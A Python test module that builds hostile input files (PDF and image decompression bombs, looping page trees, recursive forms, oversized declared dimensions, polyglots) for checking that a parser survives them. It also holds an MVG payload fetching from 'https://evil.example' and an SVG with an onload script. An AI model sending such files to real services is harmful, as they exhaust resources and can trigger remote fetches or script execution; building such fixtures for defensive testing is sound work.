"""Our own bomb maker: files of a few kilobytes that ask for gigabytes, minutes or a crash. Nothing is stored."""

import struct
import zlib
from collections.abc import Callable, Mapping

import pikepdf
from pikepdf import Array, Dictionary, Name, Stream
from PIL import Image

from tests.attack import hostile


def deep_pages(depth: int = 100) -> bytes:
    """A page tree a hundred nodes deep."""
    nodes = [
        f"{n} 0 obj<</Type/Pages/Count 1/Kids[{n + 1} 0 R]{f'/Parent {n - 1} 0 R' if n > 2 else ''}>>endobj"
        for n in range(2, depth + 2)
    ]
    page = f"{depth + 2} 0 obj<</Type/Page/Parent {depth + 1} 0 R/MediaBox[0 0 595 842]>>endobj"
    whole = ["%PDF-1.7", "1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj", *nodes, page]
    return "\n".join([*whole, "trailer<</Root 1 0 R>>", "%%EOF"]).encode()


def many_pages(count: int = 20_000) -> bytes:
    """One page that the tree holds thousands of times over."""
    kids = " ".join(["3 0 R"] * count)
    return (
        "%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
        f"2 0 obj<</Type/Pages/Count {count}/Kids[{kids}]>>endobj\n"
        "3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF"
    ).encode()


def forms_of_forms(depth: int = 24) -> bytes:
    """Each form draws the next one ten times: ten to the power of its depth."""

    def arm(document: pikepdf.Pdf) -> None:
        inner = Stream(document, b"0 0 1 1 re f")
        for _ in range(depth):
            inner.stream_dict.update(
                Dictionary(Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 595, 842]))
            )
            outer = Stream(document, b"/X Do " * 10)
            outer.Resources = Dictionary(XObject=Dictionary(X=inner))
            inner = outer
        inner.stream_dict.update(
            Dictionary(Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 595, 842]))
        )
        page = document.pages[0]
        page.Resources = Dictionary(XObject=Dictionary(X=inner))
        page.Contents = Stream(document, b"/X Do")

    return hostile.pdf(change=arm)


def much_text(letters: int = 3_000_000) -> bytes:
    """A page with millions of letters."""

    def arm(document: pikepdf.Pdf) -> None:
        lines = [
            b"BT /F1 1 Tf 1 %.2f Td (%b) Tj ET" % (number % 800 + number / 4000, b"a b " * 250)
            for number in range(letters // 1000)
        ]
        document.pages[0].Contents = Stream(document, b"\n".join(lines))

    return hostile.pdf(change=arm)


def fine_shading() -> bytes:
    """A shading whose function is a program that never rests."""

    def arm(document: pikepdf.Pdf) -> None:
        code = b"{" + b"dup mul 0.5 add sin " * 2000 + b"dup dup}"
        function = Stream(document, code)
        function.stream_dict.update(Dictionary(FunctionType=4, Domain=Array([0, 1]), Range=Array([0, 1] * 3)))
        shading = Dictionary(
            ShadingType=2, ColorSpace=Name.DeviceRGB, Coords=Array([0, 0, 595, 842]), Function=function
        )
        page = document.pages[0]
        page.Resources = Dictionary(Shading=Dictionary(S=shading))
        page.Contents = Stream(document, b"/S sh " * 3000)

    return hostile.pdf(change=arm)


def wide_image_pdf(filters: Name, body: bytes, **facts: object) -> bytes:
    """A page with a picture of 30,000 by 30,000 dots in some packing."""

    def arm(document: pikepdf.Pdf) -> None:
        dots = Stream(document, b"")
        dots.write(body, filter=filters)
        dots.stream_dict.update(
            Dictionary(Type=Name.XObject, Subtype=Name.Image, Width=30_000, Height=30_000, BitsPerComponent=1)
        )
        dots.ColorSpace = Name.DeviceGray
        if facts:
            dots.DecodeParms = Dictionary(**facts)
        page = document.pages[0]
        page.Resources = Dictionary(XObject=Dictionary(I=dots))
        page.Contents = Stream(document, b"595 0 0 842 0 0 cm /I Do")

    return hostile.pdf(change=arm, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)


def fax_tiff(side: int = 13_000) -> bytes:
    """A few kilobytes of fax that unfold to 169 million dots."""
    return hostile.encoded(Image.new("1", (side, side), 1), "TIFF", compression="group4")


def looping_tiff() -> bytes:
    """The next picture of the first is the first."""
    content = bytearray(hostile.encoded(hostile.picture(), "TIFF"))
    (start,) = struct.unpack_from("<I", content, 4)
    (count,) = struct.unpack_from("<H", content, start)
    struct.pack_into("<I", content, start + 2 + 12 * count, start)
    return bytes(content)


def long_tiff(pages: int = 800) -> bytes:
    """A TIFF of hundreds of pages."""
    page = Image.new("1", (400, 400), 1)
    return hostile.encoded(
        page, "TIFF", save_all=True, append_images=[page] * (pages - 1), compression="group4"
    )


def long_gif(frames: int = 2000) -> bytes:
    """An animation of two thousand frames."""
    more = [Image.new("L", (400, 400), n % 250) for n in range(frames)]
    return hostile.encoded(more[0], "GIF", save_all=True, append_images=more[1:])


def wide_webp() -> bytes:
    """As large as WebP can be: 16,383 by 16,383 dots of one colour."""
    return hostile.encoded(Image.new("RGB", (16_383, 2_000), "red"), "WEBP", method=0)


def wide_gif() -> bytes:
    """A header that claims 65,535 by 65,535 dots."""
    content = bytearray(hostile.encoded(hostile.picture(), "GIF"))
    content[6:10] = struct.pack("<HH", 65_535, 65_535)
    return bytes(content)


def wide_heic() -> bytes:
    """A picture property that claims 60,000 by 60,000 dots (ISO/IEC 14496-12, `ispe`)."""
    content = bytearray(hostile.heic())
    place = content.index(b"ispe") + 8
    content[place : place + 8] = struct.pack(">II", 60_000, 60_000)
    return bytes(content)


def tiff_of_size(width: int, height: int) -> bytes:
    """A TIFF whose header claims a size and whose dots are not there."""
    content = bytearray(hostile.encoded(hostile.picture(), "TIFF"))
    (start,) = struct.unpack_from("<I", content, 4)
    (count,) = struct.unpack_from("<H", content, start)
    for place in range(start + 2, start + 2 + 12 * count, 12):
        (tag,) = struct.unpack_from("<H", content, place)
        if tag in {256, 257}:
            struct.pack_into("<HII", content, place + 2, 4, 1, width if tag == 256 else height)
    return bytes(content)


def slow_jpeg(scans: int = 2000) -> bytes:
    """A progressive JPEG that repeats a scan of its whole picture thousands of times."""
    content = hostile.encoded(hostile.picture(5000, 5000), "JPEG", progressive=True)
    last = content.rindex(b"\xff\xda")
    return content[:last] + content[last:-2] * scans + b"\xff\xd9"


def bomb_in_gigabytes() -> bytes:
    """A PNG whose pixels are packed a thousandfold: 7,000 by 7,000 dots in 16 bits and four channels."""
    header = struct.pack(">IIBBBBB", 7_000, 7_000, 16, 6, 0, 0, 0)
    row = b"\0" * (1 + 7_000 * 8)
    packer = zlib.compressobj(9)
    body = b"".join(packer.compress(row) for _ in range(7_000)) + packer.flush()
    return (
        b"\x89PNG\r\n\x1a\n"
        + hostile.chunk(b"IHDR", header)
        + hostile.chunk(b"IDAT", body)
        + hostile.chunk(b"IEND", b"")
    )


def endless_notes() -> bytes:
    """A PNG with a hundred thousand notes."""
    plain = hostile.png()
    return plain[:33] + hostile.chunk(b"tEXt", b"n\0x") * 100_000 + plain[33:]


BOMBS: Mapping[str, Callable[[], bytes]] = {
    "1 GB in a stream": hostile.flate_bomb,
    "1 GB packed twice": hostile.double_flate_bomb,
    "form that draws itself": hostile.recursive_form,
    "forms of forms": forms_of_forms,
    "pages in a loop": hostile.looping_pages,
    "pages 100 deep": deep_pages,
    "pages 5,000 deep": lambda: deep_pages(5_000),
    "20,000 pages": many_pages,
    "60,000 x 60,000 in a PDF": hostile.huge_image_pdf,
    "30,000 x 30,000 fax in a PDF": lambda: wide_image_pdf(
        Name.CCITTFaxDecode, b"\0\x10\x01", K=-1, Columns=30_000
    ),
    "30,000 x 30,000 JBIG2 in a PDF": lambda: wide_image_pdf(Name.JBIG2Decode, b"\0" * 64),
    "millions of letters": much_text,
    "shading without rest": fine_shading,
    "arrays without end": lambda: b"%PDF-1.7\n" + b"[" * 4_000_000,
    "10 MB of nothing": lambda: b"%PDF-1.7\n" + bytes(10_000_000),
    "half a PDF": lambda: hostile.pdf(5)[:900],
    "active PDF": hostile.active_pdf,
    "PDF of 14,400 points": lambda: hostile.sized_pdf(14_400, 14_400),
    "13,300 x 13,300 in 22 KB of PNG": lambda: hostile.png(hostile.picture(13_300, 13_300, "1")),
    "40,000 x 40,000 PNG": lambda: hostile.png_of_size(40_000, 40_000),
    "49 million dots of 64 bits": bomb_in_gigabytes,
    "packed comment": hostile.png_text_bomb,
    "packed profile": hostile.png_profile_bomb,
    "100,000 notes": endless_notes,
    "65,535 x 65,535 JPEG": lambda: hostile.jpeg_of_size(65_535, 65_535),
    "JPEG of 2,000 scans": slow_jpeg,
    "13,000 x 13,000 fax": fax_tiff,
    "7,000 x 7,000 fax": lambda: fax_tiff(7_000),
    "TIFF in a loop": looping_tiff,
    "800 pages of TIFF": long_tiff,
    "60,000 x 60,000 TIFF": lambda: tiff_of_size(60_000, 60_000),
    "7,000 x 7,000 TIFF without dots": lambda: tiff_of_size(7_000, 7_000),
    "2,000 frames": long_gif,
    "65,535 x 65,535 GIF": wide_gif,
    "largest WebP": wide_webp,
    "60,000 x 60,000 HEIC": wide_heic,
    "half a HEIC": lambda: hostile.heic()[:500],
    "JPEG that is a PDF": lambda: hostile.jpeg() + hostile.pdf(),
    "GIF that is a PDF": lambda: hostile.encoded(hostile.picture(), "GIF", comment=hostile.pdf()),
    "PNG that is a zip": lambda: hostile.png() + b"PK\x05\x06" + bytes(18),
    "SVG named PNG": lambda: b"<?xml version='1.0'?><svg onload='x()'/>",
    "MVG named JPEG": lambda: (
        b"push graphic-context\nviewbox 0 0 640 480\nimage over 0,0 0,0 'https://evil.example'"
    ),
    "PostScript": lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n{ } loop",
    "half a JPEG": lambda: hostile.jpeg()[:2000],
}
